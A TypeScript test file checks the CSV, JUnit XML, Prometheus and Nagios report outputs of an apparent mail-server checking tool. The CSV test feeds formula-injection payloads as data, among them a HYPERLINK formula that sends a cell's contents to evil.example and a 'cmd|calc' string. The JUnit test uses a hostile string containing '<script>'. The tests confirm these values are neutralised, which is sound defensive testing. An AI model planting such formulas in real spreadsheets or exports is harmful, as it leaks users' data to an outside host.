/**
 * Behaviour of the streaming formats beyond their golden files: the CSV parses back under RFC 4180
 * with formula-injection cells neutralised, the JUnit XML is well-formed whatever a server sent,
 * the Prometheus file follows the exposition grammar with contiguous families and unique series,
 * and the Nagios state follows its documented rule.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { RunChanges } from '../../src/model/changes.js';
import type { Report } from '../../src/model/results.js';
import { CSV_COLUMNS, csvSink } from '../../src/report/csv.js';
import { junitSink } from '../../src/report/junit.js';
import { MAX_LONG_LINES, NAGIOS_STATES, nagiosSink } from '../../src/report/nagios.js';
import { prometheusSink } from '../../src/report/prometheus.js';
import { renderWith } from '../../src/report/sink.js';
import { HEADER, PLAIN, check, stream, target, unreachable } from './stream-fixtures.js';

const FIXTURES = new URL('../fixtures/reports/', import.meta.url);

function loadSample(): Report {
  return JSON.parse(readFileSync(new URL('sample-report.json', FIXTURES), 'utf8')) as Report;
}

function loadChanges(): RunChanges {
  return JSON.parse(readFileSync(new URL('sample-changes.json', FIXTURES), 'utf8')) as RunChanges;
}

/** Text a hostile server might send: markup, quotes, a control character, a lone surrogate, U+FFFE. */
const HOSTILE = `<script>&"' \u0001bell\ud800\ufffe end`;

// ---------------------------------------------------------------------------------------------
// CSV

/** A strict RFC 4180 reader: CRLF records, quoted fields with doubled quotes, nothing else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (c === '"') {
      if (field !== '') throw new Error(`quote inside an unquoted field at ${i}`);
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else field += text[i++];
      }
      if (text[i] !== ',' && text[i] !== '\r') throw new Error(`text after a closing quote at ${i}`);
      // An empty quoted field must still count as a field: mark it so "" is not taken for nothing.
      field = field === '' ? '\u0000' : field;
      continue;
    }
    if (c === ',' || c === '\r') {
      row.push(field === '\u0000' ? '' : field);
      field = '';
      if (c === '\r') {
        if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
        rows.push(row);
        row = [];
        i += 2;
      } else i++;
      continue;
    }
    if (c === '\n') throw new Error(`bare LF at ${i}`);
    field += c;
    i++;
  }
  if (field !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
  return rows;
}

describe('CSV sink', () => {
  it('parses back to a header and one row per check, plus one per target without checks', () => {
    const report = loadSample();
    const rows = parseCsv(renderWith(csvSink, report, PLAIN));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const expected = report.targets.reduce((n, t) => n + Math.max(1, t.checks.length), 0);
    expect(rows.length - 1).toBe(expected);
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
  });

  it('gives an unreachable target one row with status unreachable and the reason', () => {
    const rows = parseCsv(renderWith(csvSink, loadSample(), PLAIN));
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const idn = rows.filter((r) => r[col('target_name')] === 'smtp.xn--bcher-kva.example');
    expect(idn).toHaveLength(1);
    expect(idn[0][col('target')]).toBe('smtp.bücher.example');
    expect(idn[0][col('status')]).toBe('unreachable');
    expect(idn[0][col('check')]).toBe('');
    expect(idn[0][col('message')]).toMatch(/^DNS_NXDOMAIN: smtp\.xn--bcher-kva\.example does not exist/);
  });

  it('prefixes every text cell that a spreadsheet would run as a formula, and quotes per RFC 4180', () => {
    const t = target(
      '-evil.example',
      [
        check('smtp.greeting', 'fail', {
          message: '=HYPERLINK("http://evil.example/?"&A1,"click")',
          evidence: ['+1+2', 'second, with "quotes"'],
          remediation: { summary: '@SUM(A1:A9)' },
        }),
        check('smtp.ehlo', 'warn', { message: '\tcmd|calc', evidence: ['\r=1\u0001'] }),
      ],
      { roles: ['=relay'], input: '@input' },
    );
    const text = stream(csvSink, [t]).text;
    const [header, first, second] = parseCsv(text);
    const row = Object.fromEntries(header.map((h, i) => [h, first[i]]));
    expect(row.target).toBe("'-evil.example");
    expect(row.target_name).toBe("'-evil.example");
    expect(row.input).toBe("'@input");
    expect(row.roles).toBe("'=relay");
    expect(row.message).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(row.evidence).toBe(`'+1+2 | second, with "quotes"`);
    expect(row.remediation).toBe("'@SUM(A1:A9)");
    expect(row.duration_ms).toBe('100');
    // TAB and CR never reach a cell raw: sanitize makes them visible text first.
    const row2 = Object.fromEntries(header.map((h, i) => [h, second[i]]));
    expect(row2.message).toBe('\\x09cmd|calc');
    expect(row2.evidence).toBe('\\x0d=1\\x01');
    expect(text).not.toContain('\t');
    expect(text).not.toContain('\u0001');
    // Quoted because of the comma and quotes; the quotes doubled on the wire.
    expect(text).toContain(`"'+1+2 | second, with ""quotes"""`);
  });

  it('writes the header at begin and each target as it arrives', () => {
    const parts: string[] = [];
    const sink = csvSink({ write: (s) => void parts.push(s) }, PLAIN);
    sink.begin(HEADER);
    expect(parts.join('')).toBe(CSV_COLUMNS.join(',') + '\r\n');
    sink.target(target('a.example', [check('smtp.vrfy', 'pass'), check('smtp.expn', 'fail')]));
    expect(parseCsv(parts.join(''))).toHaveLength(3);
  });
});

// ---------------------------------------------------------------------------------------------
// JUnit XML

const XML_NAME = /[A-Za-z_][\w.-]*/y;
const ENTITY = /&(?:amp|lt|gt|quot|apos|#[0-9]+|#x[0-9a-fA-F]+);/y;

interface XmlElement {
  name: string;
  attrs: Record<string, string>;
}

function decodeXml(text: string): string {
  return text.replace(/&(amp|lt|gt|quot|apos|#[0-9]+);/g, (_m, e: string) => {
    if (e.startsWith('#')) return String.fromCodePoint(Number(e.slice(1)));
    return { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }[e] ?? '';
  });
}

/**
 * A minimal strict XML 1.0 reader for our output: declaration, elements with double-quoted
 * attributes, character data and the predefined entities (no comments, CDATA, PIs or DOCTYPE,
 * which we never write). Throws on anything not well-formed; returns every element in order.
 */
function readXml(doc: string): XmlElement[] {
  if (/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u.test(doc)) {
    throw new Error('a character XML 1.0 does not allow');
  }
  const decl = '<?xml version="1.0" encoding="UTF-8"?>\n';
  if (!doc.startsWith(decl)) throw new Error('no XML declaration');
  const elements: XmlElement[] = [];
  const stack: string[] = [];
  let roots = 0;
  let i = decl.length;
  const checkText = (s: string, where: number) => {
    for (let j = 0; j < s.length; j++) {
      if (s[j] === '<') throw new Error(`raw < at ${where + j}`);
      if (s[j] === '&') {
        ENTITY.lastIndex = j;
        if (!ENTITY.test(s)) throw new Error(`bare & at ${where + j}`);
      }
    }
  };
  while (i < doc.length) {
    if (doc[i] !== '<') {
      const end = doc.indexOf('<', i);
      const text = doc.slice(i, end === -1 ? doc.length : end);
      if (stack.length === 0 && text.trim() !== '') throw new Error(`text outside the root at ${i}`);
      checkText(text, i);
      i += text.length;
      continue;
    }
    if (doc[i + 1] === '/') {
      XML_NAME.lastIndex = i + 2;
      const m = XML_NAME.exec(doc);
      if (!m) throw new Error(`bad end tag at ${i}`);
      const close = doc.indexOf('>', i);
      if (doc.slice(i + 2 + m[0].length, close).trim() !== '') throw new Error(`junk in end tag at ${i}`);
      const open = stack.pop();
      if (open !== m[0]) throw new Error(`</${m[0]}> closes <${open}> at ${i}`);
      i = close + 1;
      continue;
    }
    XML_NAME.lastIndex = i + 1;
    const m = XML_NAME.exec(doc);
    if (!m) throw new Error(`bad start tag at ${i}`);
    const el: XmlElement = { name: m[0], attrs: {} };
    let j = i + 1 + m[0].length;
    for (;;) {
      const ws = /\s*/y;
      ws.lastIndex = j;
      const spaces = ws.exec(doc)![0].length;
      j += spaces;
      if (doc.startsWith('/>', j) || doc[j] === '>') break;
      if (spaces === 0) throw new Error(`no space before an attribute at ${j}`);
      XML_NAME.lastIndex = j;
      const a = XML_NAME.exec(doc);
      if (!a || doc[j + a[0].length] !== '=' || doc[j + a[0].length + 1] !== '"') {
        throw new Error(`bad attribute at ${j}`);
      }
      const start = j + a[0].length + 2;
      const end = doc.indexOf('"', start);
      const raw = doc.slice(start, end);
      checkText(raw, start);
      if (a[0] in el.attrs) throw new Error(`duplicate attribute ${a[0]} at ${j}`);
      el.attrs[a[0]] = decodeXml(raw);
      j = end + 1;
    }
    if (stack.length === 0) roots++;
    elements.push(el);
    if (doc[j] === '>') {
      stack.push(el.name);
      j++;
    } else j += 2;
    i = j;
  }
  if (stack.length > 0) throw new Error(`unclosed <${stack.join('>, <')}>`);
  if (roots !== 1) throw new Error(`${roots} root elements`);
  return elements;
}

describe('JUnit sink', () => {
  it('writes a well-formed document whose totals match its test cases', () => {
    const els = readXml(renderWith(junitSink, loadSample(), PLAIN));
    expect(els[0].name).toBe('testsuites');
    const count = (n: string) => els.filter((e) => e.name === n).length;
    const root = els[0].attrs;
    expect(Number(root.tests)).toBe(count('testcase'));
    expect(Number(root.failures)).toBe(count('failure'));
    expect(Number(root.errors)).toBe(count('error'));
    expect(Number(root.skipped)).toBe(count('skipped'));
    expect(count('testsuite')).toBe(3);
    expect(Number(root.tests)).toBe(50 + 50 + 1);
    const suites = els.filter((e) => e.name === 'testsuite');
    expect(suites.map((s) => s.attrs.name)).toEqual([
      'mail.lab.example',
      'lab.example',
      'smtp.bücher.example',
    ]);
    expect(suites[2].attrs.hostname).toBe('smtp.xn--bcher-kva.example');
  });

  it('escapes markup and drops characters XML cannot carry, whatever the server sent', () => {
    const t = target(`host${HOSTILE}`, [
      check('smtp.greeting', 'fail', { message: HOSTILE, evidence: [HOSTILE], endpoint: `[::1]:25` }),
      check('smtp.ehlo', 'error', { message: HOSTILE }),
      check('smtp.vrfy', 'skip', { message: HOSTILE }),
      check('smtp.expn', 'warn', { message: HOSTILE }),
    ]);
    const xml = stream(junitSink, [t]).text;
    const els = readXml(xml);
    expect(xml).toContain('&lt;script&gt;&amp;&quot;&apos;');
    expect(xml).not.toContain('<script>');
    const failure = els.find((e) => e.name === 'failure')!;
    // sanitize made the control character visible; the lone surrogate and U+FFFE are gone.
    expect(failure.attrs.message).toBe(`<script>&"' \\x01bell end`);
    expect(failure.attrs.type).toBe('fail');
    expect(els.find((e) => e.name === 'error')!.attrs.type).toBe('error');
    expect(els.find((e) => e.name === 'skipped')!.attrs.message).toBe(`<script>&"' \\x01bell end`);
    expect(els.filter((e) => e.name === 'system-out')).toHaveLength(1);
    expect(els.find((e) => e.name === 'testsuite')!.attrs.name).toBe(`host<script>&"' \\x01bell end`);
  });

  it('reports an unreachable target as an error test case and marks an interrupted run', () => {
    const { text } = stream(
      junitSink,
      [unreachable('down.example'), target('up.example', [check('a.b', 'pass')])],
      {
        interrupted: true,
        plannedCount: 5,
      },
    );
    const els = readXml(text);
    const cases = els.filter((e) => e.name === 'testcase');
    expect(cases[0].attrs).toMatchObject({ name: 'reachable', classname: 'mailcheck.down.example.target' });
    expect(els[els.indexOf(cases[0]) + 1]).toMatchObject({ name: 'error', attrs: { type: 'ECONNREFUSED' } });
    expect(els[0].attrs).toMatchObject({ tests: '2', errors: '1', failures: '0' });
    const props = els.filter((e) => e.name === 'property').map((e) => e.attrs);
    expect(props.slice(0, 3)).toEqual([
      { name: 'interrupted', value: 'true' },
      { name: 'targets', value: '2' },
      { name: 'planned', value: '5' },
    ]);
    const plain = stream(junitSink, [target('up.example', [check('a.b', 'pass')])]).text;
    expect(plain).not.toContain('interrupted');
  });

  it('writes nothing until the end, when the totals are known', () => {
    const parts: string[] = [];
    const sink = junitSink({ write: (s) => void parts.push(s) }, PLAIN);
    sink.begin(HEADER);
    sink.target(target('a.example', [check('smtp.vrfy', 'fail')]));
    expect(parts).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// Prometheus

const METRIC = '[a-zA-Z_:][a-zA-Z0-9_:]*';
const LABEL = '[a-zA-Z_][a-zA-Z0-9_]*="(?:[^"\\\\\\n]|\\\\[\\\\"n])*"';
const SAMPLE_LINE = new RegExp(
  `^(${METRIC})(?:\\{((?:${LABEL})(?:,${LABEL})*)?\\})? (NaN|[+-]Inf|-?[0-9]+(?:\\.[0-9]+)?(?:e[+-]?[0-9]+)?)$`,
);
const META_LINE = new RegExp(`^# (HELP|TYPE) (${METRIC}) (.*)$`);

interface Exposition {
  families: string[];
  series: string[];
  samples: Array<{ name: string; labels: Record<string, string>; value: string }>;
}

/** Checks the text exposition format 0.0.4 as node_exporter's textfile collector reads it. */
function readExposition(text: string): Exposition {
  if (!text.endsWith('\n')) throw new Error('no final newline');
  const families: string[] = [];
  const closed = new Set<string>();
  const series = new Set<string>();
  const samples: Exposition['samples'] = [];
  let current: string | undefined;
  let typed: string | undefined;
  for (const line of text.slice(0, -1).split('\n')) {
    const meta = META_LINE.exec(line);
    if (meta) {
      const [, kind, name, rest] = meta;
      if (kind === 'HELP') {
        if (closed.has(name) || name === current) throw new Error(`family ${name} is not contiguous`);
        if (current) closed.add(current);
        current = name;
        typed = undefined;
        families.push(name);
      } else {
        if (name !== current || typed) throw new Error(`TYPE for ${name} out of place`);
        if (!['gauge', 'counter', 'untyped', 'summary', 'histogram'].includes(rest)) throw new Error(rest);
        typed = name;
      }
      continue;
    }
    const m = SAMPLE_LINE.exec(line);
    if (!m) throw new Error(`not a sample line: ${JSON.stringify(line)}`);
    if (m[1] !== current || typed !== current) throw new Error(`sample of ${m[1]} outside its family`);
    const labels: Record<string, string> = {};
    for (const [, k, v] of (m[2] ?? '').matchAll(/([a-zA-Z_][a-zA-Z0-9_]*)="((?:[^"\\]|\\.)*)"/g)) {
      if (k in labels) throw new Error(`label ${k} twice in ${line}`);
      labels[k] = v.replace(/\\(.)/g, (_x, c: string) => (c === 'n' ? '\n' : c));
    }
    const key = `${m[1]}{${Object.keys(labels)
      .sort()
      .map((k) => `${k}=${JSON.stringify(labels[k])}`)
      .join(',')}}`;
    if (series.has(key)) throw new Error(`duplicate series ${key}`);
    series.add(key);
    samples.push({ name: m[1], labels, value: m[3] });
  }
  return { families, series: [...series], samples };
}

describe('Prometheus sink', () => {
  it('follows the exposition grammar with contiguous families and unique series', () => {
    const { families, samples } = readExposition(
      renderWith(prometheusSink, loadSample(), PLAIN, loadChanges()),
    );
    expect(families).toContain('mailcheck_run_new_failures');
    expect(families).toContain('mailcheck_check_status');
    const report = loadSample();
    const checks = report.targets.reduce((n, t) => n + t.checks.length, 0);
    expect(samples.filter((s) => s.name === 'mailcheck_check_status')).toHaveLength(checks);
    expect(samples.filter((s) => s.name === 'mailcheck_check_failed' && s.value === '1')).toHaveLength(
      report.summary.fail,
    );
    const up = samples.filter((s) => s.name === 'mailcheck_target_up');
    expect(up.map((s) => [s.labels.target, s.labels.display, s.value])).toEqual([
      ['mail.lab.example', 'mail.lab.example', '1'],
      ['lab.example', 'lab.example', '1'],
      ['smtp.xn--bcher-kva.example', 'smtp.bücher.example', '0'],
    ]);
  });

  it('stays valid with hostile label values, a target named twice and a check reported twice', () => {
    const weird = `we"ird\\name\nnext`;
    const targets = [
      target('dup.example', [
        check('tls.cert_expiry', 'pass', { data: { days: 40 } }),
        check('tls.cert_expiry', 'warn', { data: { days: 10 } }),
        check('smtp.vrfy', 'pass'),
        check('smtp.vrfy', 'fail'),
      ]),
      target('dup.example', [check('smtp.vrfy', 'pass')]),
      target('dup.example', [check('smtp.vrfy', 'pass')], { kind: 'domain' }),
      target(weird, [check('smtp.vrfy', 'pass', { endpoint: weird })], { displayName: weird }),
    ];
    const { samples } = readExposition(stream(prometheusSink, targets).text);
    const status = samples.filter((s) => s.name === 'mailcheck_check_status');
    expect(status.map((s) => [s.labels.target, s.labels.kind, s.labels.check, s.labels.status])).toEqual([
      ['dup.example', 'host', 'tls.cert_expiry', 'warn'],
      ['dup.example', 'host', 'smtp.vrfy', 'fail'],
      ['dup.example#2', 'host', 'smtp.vrfy', 'pass'],
      ['dup.example', 'domain', 'smtp.vrfy', 'pass'],
      [weird, 'host', 'smtp.vrfy', 'pass'],
    ]);
    expect(status[4].labels.endpoint).toBe(weird);
    const expiry = samples.filter((s) => s.name === 'mailcheck_cert_expiry_days');
    expect(expiry).toEqual([
      {
        name: 'mailcheck_cert_expiry_days',
        labels: { target: 'dup.example', kind: 'host', endpoint: '192.0.2.1:25' },
        value: '10',
      },
    ]);
  });

  it('marks an interrupted run and gives target-level checks an empty endpoint', () => {
    const t = target('a.example', [check('dns.mx', 'pass', { endpoint: undefined })]);
    const { samples } = readExposition(
      stream(prometheusSink, [t], { interrupted: true, plannedCount: 9 }).text,
    );
    const one = (name: string) => samples.find((s) => s.name === name);
    expect(one('mailcheck_run_interrupted')?.value).toBe('1');
    expect(one('mailcheck_run_targets_planned')?.value).toBe('9');
    expect(one('mailcheck_check_status')?.labels.endpoint).toBe('');
    expect(one('mailcheck_cert_expiry_days')).toBeUndefined();
    expect(one('mailcheck_run_new_failures')).toBeUndefined();
  });
});

// ---------------------------------------------------------------------------------------------
// Nagios

const PERF_ITEM =
  /^('(?:[^']|'')+'|[^'= ]+)=-?[0-9.]+(?:s|ms|us|%|B|KB|MB|TB|c)?;[^; ]*;[^; ]*;[^; ]*;?[^; ]*$/;

function nagios(targets: Parameters<typeof stream>[1], footer: Parameters<typeof stream>[2] = {}) {
  const { text, sink } = stream(nagiosSink, targets, footer);
  return { text, code: sink.exitCode(), first: text.split('\n')[0] };
}

describe('Nagios sink', () => {
  const pass = (n: string) =>
    target(n, [check('smtp.vrfy', 'pass'), check('tls.dane', 'info'), check('a.b', 'skip')]);

  it.each([
    ['every check passed', [pass('a.example'), pass('b.example')], {}, 'OK'],
    [
      'a warning only',
      [pass('a.example'), target('b.example', [check('tls.ciphers', 'warn')])],
      {},
      'WARNING',
    ],
    ['an undetermined check only', [target('b.example', [check('dns.ptr', 'error')])], {}, 'WARNING'],
    [
      'a failed check',
      [pass('a.example'), target('b.example', [check('relay.open', 'fail')])],
      {},
      'CRITICAL',
    ],
    ['every target unreachable', [unreachable('a.example'), unreachable('b.example')], {}, 'UNKNOWN'],
    ['one target unreachable', [pass('a.example'), unreachable('b.example')], {}, 'CRITICAL'],
    ['the only target unreachable', [unreachable('a.example')], {}, 'UNKNOWN'],
    ['no target at all', [], {}, 'UNKNOWN'],
    ['an interrupted clean run', [pass('a.example')], { interrupted: true, plannedCount: 3 }, 'UNKNOWN'],
    [
      'an interrupted run with a failure',
      [target('b.example', [check('relay.open', 'fail')])],
      { interrupted: true, plannedCount: 3 },
      'CRITICAL',
    ],
  ] as const)('exits as the rule says for %s', (_what, targets, footer, state) => {
    const { code, first } = nagios([...targets], footer);
    expect(code).toBe(NAGIOS_STATES[state]);
    expect(first.startsWith(`MAILCHECK ${state} - `)).toBe(true);
  });

  it('is UNKNOWN until the run has ended', () => {
    const sink = nagiosSink({ write: () => {} }, PLAIN);
    sink.begin(HEADER);
    sink.target(target('a.example', [check('smtp.vrfy', 'pass')]));
    expect(sink.exitCode()).toBe(3);
  });

  it('writes one status line with well-formed perfdata, and no pipe in any text', () => {
    const { text, first } = nagios(
      [
        target('pipe|host.example', [check('smtp|vrfy', 'fail', { message: 'a | b' })]),
        unreachable('down.example', { error: { code: 'E', message: 'x | y\nz' } }),
      ],
      { changes: loadChanges() },
    );
    const [status, perf, ...extra] = first.split(' | ');
    expect(extra).toEqual([]);
    expect(status).toBe(
      'MAILCHECK CRITICAL - 1 of 2 targets failing (1 check), 1 unreachable, 2 new failures since run 41',
    );
    for (const item of perf.split(' ')) expect(item).toMatch(PERF_ITEM);
    expect(perf).toContain('duration=1.234s;;;0');
    expect(perf).toContain('new_failures=2;;;0');
    const long = text.split('\n').slice(1);
    expect(long.join('\n')).not.toContain('|');
    expect(long).toContain('FAIL pipe/host.example: smtp/vrfy');
    expect(long).toContain('UNREACHABLE down.example: E: x / y\\x0az');
  });

  it('limits the long text and says how much was left out', () => {
    const targets = Array.from({ length: 200 }, (_, i) =>
      target(`h${i}.example`, [check('relay.open', 'fail')]),
    );
    const { text, first } = nagios(targets);
    expect(first).toContain('200 of 200 targets failing (200 checks)');
    const long = text.trimEnd().split('\n').slice(1);
    expect(long).toHaveLength(MAX_LONG_LINES + 1);
    expect(long[0]).toBe('FAIL h0.example: relay.open');
    expect(long.at(-1)).toBe(`… and ${200 - MAX_LONG_LINES} more`);
  });

  it('lists failing targets before unreachable ones and those with warnings last', () => {
    const { text } = nagios([
      target('w.example', [check('tls.ciphers', 'warn'), check('dns.ptr', 'error')]),
      unreachable('u.example'),
      target('f.example', [check('relay.open', 'fail'), check('tls.ciphers', 'warn')]),
    ]);
    expect(text.split('\n').slice(1, 4)).toEqual([
      'FAIL f.example: relay.open',
      'UNREACHABLE u.example: ECONNREFUSED: Connection refused (attempted address: u.example:25)',
      'WARN w.example: tls.ciphers, dns.ptr',
    ]);
  });
});
